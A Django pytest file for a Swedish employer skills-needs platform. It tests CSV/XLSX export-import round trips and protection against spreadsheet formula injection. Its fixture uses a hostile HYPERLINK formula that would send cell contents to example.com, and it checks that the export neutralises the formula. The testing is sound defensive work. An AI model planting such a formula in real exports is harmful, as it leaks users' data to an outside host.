"""Export → import → no change: the need export and the needs import share one column set."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from employers.importing import need_import_file
from employers.models import Need, NeedEvent
from employers.services import need_create
from matchplats.taxonomy.models import Kommun, Lan, OccupationName, Skill, SsykGroup
from tests.factories import add_member

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://example.com/?d="&A2&B2,"Klicka")'


@pytest.fixture
def member_needs(employer_a):
    member = add_member(employer_a)
    usk = OccupationName.objects.get(concept_id="bSEB_VKd_Ub3")
    need_create(actor=member, organisation=employer_a, title=FORMULA, ssyk4=usk.ssyk4, occupation_name=usk,
                headcount=12, horizon="1y", kommun=Kommun.objects.get(code="1780"),
                description="Rad ett\nrad två; med semikolon", seqf_level=4, employment_form="seasonal",
                validation_accepted=True, visibility="coordinators",
                skills=Skill.objects.filter(label__in=["Allmän omvårdnadserfarenhet", "Afasi, omsorgserfarenhet"]))
    need_create(actor=member, organisation=employer_a, title="-Elektriker @ länet", ssyk4=SsykGroup.objects.get(
        code="7411"), headcount=3, horizon="3-5y", lan=Lan.objects.get(code="17"), visibility="aggregated")
    return member


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_of_the_own_needs_imports_back_with_no_change(client, employer_a, member_needs, file_format):
    client.force_login(member_needs)
    export = client.get(reverse("employers:export", args=[file_format]))
    assert export.status_code == 200
    events = NeedEvent.objects.count()
    before = list(Need.objects.order_by("pk").values())

    result = need_import_file(actor=member_needs, data=export.content, file_name=f"kompetensbehov.{file_format}",
                              organisation=employer_a)

    assert (result.rows, result.created, result.updated, result.unchanged) == (2, 0, 0, 2)
    assert list(Need.objects.order_by("pk").values()) == before
    assert NeedEvent.objects.count() == events + 0
    assert Need.objects.get(title=FORMULA).skills.count() == 2


def test_the_csv_export_has_swedish_headers_and_words_and_no_live_formula(client, employer_a, member_needs):
    client.force_login(member_needs)
    text = client.get(reverse("employers:export", args=["csv"])).content.decode("utf-8")
    assert text.startswith("\ufeffID;Arbetsgivare;Referens;Titel;SSYK;Yrkesbenämning")
    assert "Inom 1 år" in text and "Säsong" in text and "Samordnare" in text and ";Ja;" in text
    assert "Afasi, omsorgserfarenhet|Allmän omvårdnadserfarenhet" in text
    cells = [cell for row in csv.reader(io.StringIO(text[1:], newline=""), delimiter=";") for cell in row]
    assert "'" + FORMULA in cells and "'-Elektriker @ länet" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_stored_control_character_does_not_break_the_need_export(client, employer_a, member_needs):
    Need.objects.filter(title=FORMULA).update(title="Svets\x01are")
    client.force_login(member_needs)
    for file_format in ("csv", "xlsx"):
        assert client.get(reverse("employers:export", args=[file_format])).status_code == 200


def test_the_upload_page_links_the_own_needs_export_which_imports_back_beside_others_public_needs(
        client, employer_a, employer_b, member_needs):
    from tests.factories import make_need

    make_need(employer_b, title="Annans behov")  # public: in the full export, not in employer A's
    client.force_login(member_needs)
    page = client.get(reverse("employers:import"))
    (name, url), = page.context["exports"]
    assert name == employer_a.name and url in page.content.decode().replace("&amp;", "&")
    export = client.get(url)
    assert "Annans behov" not in export.content.decode("utf-8")
    result = need_import_file(actor=member_needs, data=export.content, file_name="egna.csv", organisation=employer_a)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
